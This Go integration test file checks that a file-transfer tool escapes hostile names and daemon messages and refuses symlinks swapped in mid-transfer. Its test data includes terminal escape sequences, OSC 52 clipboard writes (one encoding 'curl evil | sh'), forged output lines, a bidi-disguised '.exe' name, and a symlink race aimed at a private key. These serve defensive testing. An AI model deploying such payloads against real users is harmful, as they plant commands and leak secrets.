package integration

// Issue 8, defects 8, 9 and 14, against the real binaries: the sender's
// walk of its PATHs, how it opens what it found, and how it prints names
// and the daemon's words. Every test here fails until walkPaths,
// openEntry, escapeName and escapeRemote (cmd/ferry/walk.go, open.go,
// escape.go) are wired into send.go; defect 12 (memory) is guarded by
// cmd/ferry's TestWalkMemoryFlat.

import (
	"encoding/binary"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/ferry-dev/ferry/internal/faultproxy"
)

// runFerryIn runs ferry in the working directory dir, as a shell in dir
// would start it (PWD set to dir).
func runFerryIn(t *testing.T, dir string, args ...string) result {
	t.Helper()
	p := &ferryProc{t: t, cmd: exec.Command(bin.ferry, args...), done: make(chan struct{})}
	p.cmd.Dir = dir
	p.cmd.Env = append(childEnv(t), "PWD="+dir)
	p.cmd.Stdout, p.cmd.Stderr = &p.stdout, &p.stderr
	if err := p.cmd.Start(); err != nil {
		t.Fatalf("starting ferry: %v", err)
	}
	go func() {
		p.err = p.cmd.Wait()
		close(p.done)
	}()
	t.Cleanup(p.kill)
	return p.wait()
}

// terminalSafe reports whether s is valid UTF-8 whose only control
// character is newline and which holds no format character (bidi
// overrides and isolates, zero-width characters) or line separator: text
// a terminal shows as it is.
func terminalSafe(s string) bool {
	if !utf8.ValidString(s) {
		return false
	}
	for _, r := range s {
		if (r != '\n' && unicode.IsControl(r)) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029' {
			return false
		}
	}
	return true
}

// writeFiles creates each slash-separated name under dir holding content
// "<name>\n".
func writeFiles(t *testing.T, dir string, names ...string) {
	t.Helper()
	for _, n := range names {
		p := filepath.Join(dir, filepath.FromSlash(n))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(n+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestWalkDotDotKeepsDest (defect 14; needs walkPaths wired into send.go):
// in src/one/a, `ferry send --dest X/Y ..` committed X/a/b/f.txt, losing
// a --dest component. A PATH is named by its resolved directory: the
// tree lands at X/Y/one/....
func TestWalkDotDotKeepsDest(t *testing.T) {
	root := t.TempDir()
	d := startDaemon(t, root)
	src := filepath.Join(t.TempDir(), "src")
	writeFiles(t, src, "one/a/b/f.txt", "one/a/g.txt", "one/top.txt")
	r := runFerryIn(t, filepath.Join(src, "one", "a"), sendArgs(d.addr, "--dest", "X/Y", "..")...)
	wantCode(t, r, exitOK)
	for _, name := range []string{"one/a/b/f.txt", "one/a/g.txt", "one/top.txt"} {
		sameFile(t, filepath.Join(src, name), filepath.Join(root, "X", "Y", filepath.FromSlash(name)))
	}
	checkOnly(t, root, ".ferry", "X")
	checkOnly(t, filepath.Join(root, "X"), "Y")
	checkOnly(t, filepath.Join(root, "X", "Y"), "one")
	recs := parseRecords(t, r.stdout)
	var remotes []string
	for _, rec := range recs {
		if rec.Path == "" || rec.Remote == "" {
			continue // the summary
		}
		remotes = append(remotes, rec.Remote)
	}
	// Records come as files settle (README: "as it settles"), which a
	// window of transfers in flight does in any order: compare sorted.
	slices.Sort(remotes)
	want := []string{"X/Y/one/a/b/f.txt", "X/Y/one/a/g.txt", "X/Y/one/top.txt"}
	if strings.Join(remotes, " ") != strings.Join(want, " ") {
		t.Errorf("--json remote names %q, want %q", remotes, want)
	}

	// "." in the same directory is the directory a. (PATH "/", a usage
	// error, is left to the unit test: on main it would walk the whole
	// file system.)
	r = runFerryIn(t, filepath.Join(src, "one", "a"), sendArgs(d.addr, "--dest", "dot", ".")...)
	wantCode(t, r, exitOK)
	sameFile(t, filepath.Join(src, "one/a/g.txt"), filepath.Join(root, "dot", "a", "g.txt"))
}

// TestWalkMissingPathOthersSent (needs walkPaths wired into send.go): a
// PATH that does not exist among several is reported on stderr, the
// others are sent, and the run exits 1 (failed): not everything named was
// sent.
func TestWalkMissingPathOthersSent(t *testing.T) {
	root := t.TempDir()
	d := startDaemon(t, root)
	dir := t.TempDir()
	writeFiles(t, dir, "a.txt", "tree/b.txt")
	missing := filepath.Join(dir, "missing.txt")
	r := runFerry(t, sendArgs(d.addr, filepath.Join(dir, "a.txt"), missing, filepath.Join(dir, "tree"))...)
	wantCode(t, r, exitFailed)
	sameFile(t, filepath.Join(dir, "a.txt"), filepath.Join(root, "a.txt"))
	sameFile(t, filepath.Join(dir, "tree/b.txt"), filepath.Join(root, "tree", "b.txt"))
	if !strings.Contains(r.stderr, missing) || !strings.Contains(r.stderr, "no such file") {
		t.Errorf("stderr does not report %s as missing:\n%s", missing, r.stderr)
	}
}

// TestWalkNamesEscapedOnStderr (defect 9; needs escapeName wired into
// send.go's human output): local names with ESC, BEL, an OSC 52 clipboard
// write, a newline forging a "sent" line, or a bidi override are printed
// escaped. The daemon refuses the names with control characters (exit 3)
// and commits the bidi one.
func TestWalkNamesEscapedOnStderr(t *testing.T) {
	root := t.TempDir()
	d := startDaemon(t, root)
	dir := t.TempDir()
	names := []string{
		"esc\x1b[31mred.txt",
		"osc52\x1b]52;c;ZWNobyBwd25lZA==\a.txt",
		"forged\nferry: sent fake.txt → fake.txt: 1 B in 0.0s blake3 00.txt",
		"invoice\u202etxt.exe",
	}
	writeFiles(t, dir, "tree/plain.txt")
	for _, n := range names {
		if err := os.WriteFile(filepath.Join(dir, "tree", n), []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// Human output with -v: no --json, and a "sent" line per committed file.
	r := runFerry(t, "send", "--to", d.addr, "--backoff", "50ms", "-v", filepath.Join(dir, "tree"))
	wantCode(t, r, exitRefused)
	if !terminalSafe(r.stderr) {
		t.Errorf("stderr shows a name unescaped: %q", r.stderr)
	}
	for _, want := range []string{`esc\x1b[31mred.txt`, `invoice\u202etxt.exe`, "plain.txt"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr does not show %s:\n%s", want, r.stderr)
		}
	}
	sent := 0
	for _, line := range strings.Split(r.stderr, "\n") {
		if strings.HasPrefix(line, "ferry: sent ") {
			sent++
		}
	}
	if sent != 2 {
		t.Errorf("want two \"ferry: sent\" lines (plain.txt and the bidi name), got:\n%s", r.stderr)
	}
	sameFile(t, filepath.Join(dir, "tree", "invoice\u202etxt.exe"), filepath.Join(root, "tree", "invoice\u202etxt.exe"))
}

// TestWalkRemoteTextEscaped (defect 9; needs escapeRemote wired into
// send.go): a hostile daemon's refusal carrying ESC, BEL, an OSC 52
// clipboard write and a forged "sent … blake3" line reaches stderr
// escaped, on one line.
func TestWalkRemoteTextEscaped(t *testing.T) {
	ln, fp := listenTLS(t)
	defer ln.Close()
	evil := "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a\x1b[2K\rferry: sent /etc/shadow → x: 1 B in 0.0s (1 B/s) blake3 00\n\u202eevil"
	served := make(chan error, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			served <- err
			return
		}
		defer c.Close()
		// Read the sender's hello frame, then refuse it.
		var hdr [frameHeaderSize]byte
		if _, err := io.ReadFull(c, hdr[:]); err != nil {
			served <- err
			return
		}
		if _, err := io.CopyN(io.Discard, c, int64(binary.BigEndian.Uint32(hdr[1:]))); err != nil {
			served <- err
			return
		}
		p := binary.BigEndian.AppendUint16(nil, 3) // CodeBadName: permanent
		p = binary.BigEndian.AppendUint16(p, uint16(len(evil)))
		p = append(p, evil...)
		f := binary.BigEndian.AppendUint32([]byte{frameRefuse}, uint32(len(p)))
		_, err = c.Write(append(f, p...))
		served <- err
	}()
	src := filepath.Join(t.TempDir(), "f.txt")
	writeRandom(t, src, 100, 1)
	r := runFerry(t, "send", "--to", ln.Addr().String(), "--fingerprint", fp, "--retries", "0", src)
	if err := <-served; err != nil {
		t.Fatalf("hostile daemon: %v", err)
	}
	wantCode(t, r, exitRefused)
	if !terminalSafe(r.stderr) {
		t.Errorf("stderr passes the daemon's text through unescaped: %q", r.stderr)
	}
	if n := strings.Count(strings.TrimSpace(r.stderr), "\n"); n != 0 {
		t.Errorf("the refusal takes %d lines on stderr, want 1:\n%s", n+1, r.stderr)
	}
	if !strings.Contains(r.stderr, `\x1b]52;c;`) {
		t.Errorf("stderr does not show the refusal escaped:\n%s", r.stderr)
	}
}

// TestWalkSymlinkSwappedMidRun (defect 8): a private key swapped in for
// tree/z.txt, as a symlink, while tree/a.bin was on the wire, was uploaded
// as tree/z.txt. The walk must not follow it, nor the open: z.txt is
// reported and skipped (exit 1 if found replaced at open, 0 if the walk
// itself met a symlink, which is only a notice), or sent with the
// content the walk saw; never the key. Passes on main only if the walk
// were to list z.txt after the swap; fails there as the issue describes.
func TestWalkSymlinkSwappedMidRun(t *testing.T) {
	ctx := testContext(t)
	root := t.TempDir()
	d := startDaemon(t, root)
	base := t.TempDir()
	secret := filepath.Join(base, "id_ed25519")
	if err := os.WriteFile(secret, []byte("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tree := filepath.Join(base, "tree")
	writeFiles(t, tree, "z.txt")
	const size = 16 << 20
	writeRandom(t, filepath.Join(tree, "a.bin"), size, 8)
	p := newProxy(t, d.addr)
	p.Throttle(8 << 20) // a.bin takes two seconds
	s := startFerry(t, sendArgs(p.Addr(), tree)...)
	if err := p.WaitBytes(ctx, 2<<20); err != nil {
		t.Fatal(err)
	}
	z := filepath.Join(tree, "z.txt")
	if err := os.Symlink(secret, z+".new"); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(z+".new", z); err != nil { // atomic: z.txt is always there
		t.Fatal(err)
	}
	if sent := p.Total(faultproxy.ClientToServer); sent >= size {
		t.Fatalf("a.bin was sent (%d bytes) before z.txt was swapped; the throttle did not hold", sent)
	}
	p.Throttle(0)
	r := s.wait()
	if r.code != exitOK && r.code != exitFailed {
		t.Fatalf("ferry exited %d, want 0 or 1\n%s", r.code, r)
	}
	sameFile(t, filepath.Join(tree, "a.bin"), filepath.Join(root, "tree", "a.bin"))
	got, err := os.ReadFile(filepath.Join(root, "tree", "z.txt"))
	switch {
	case err == nil && strings.Contains(string(got), "PRIVATE KEY"):
		t.Fatalf("the key swapped in for tree/z.txt was uploaded as tree/z.txt\n%s", r)
	case err == nil && string(got) != "z.txt\n":
		t.Fatalf("tree/z.txt holds %q", got)
	case err != nil && !os.IsNotExist(err):
		t.Fatal(err)
	case err != nil && !strings.Contains(r.stderr, "z.txt"):
		t.Errorf("z.txt was not sent, but stderr does not say so:\n%s", r.stderr)
	}
}
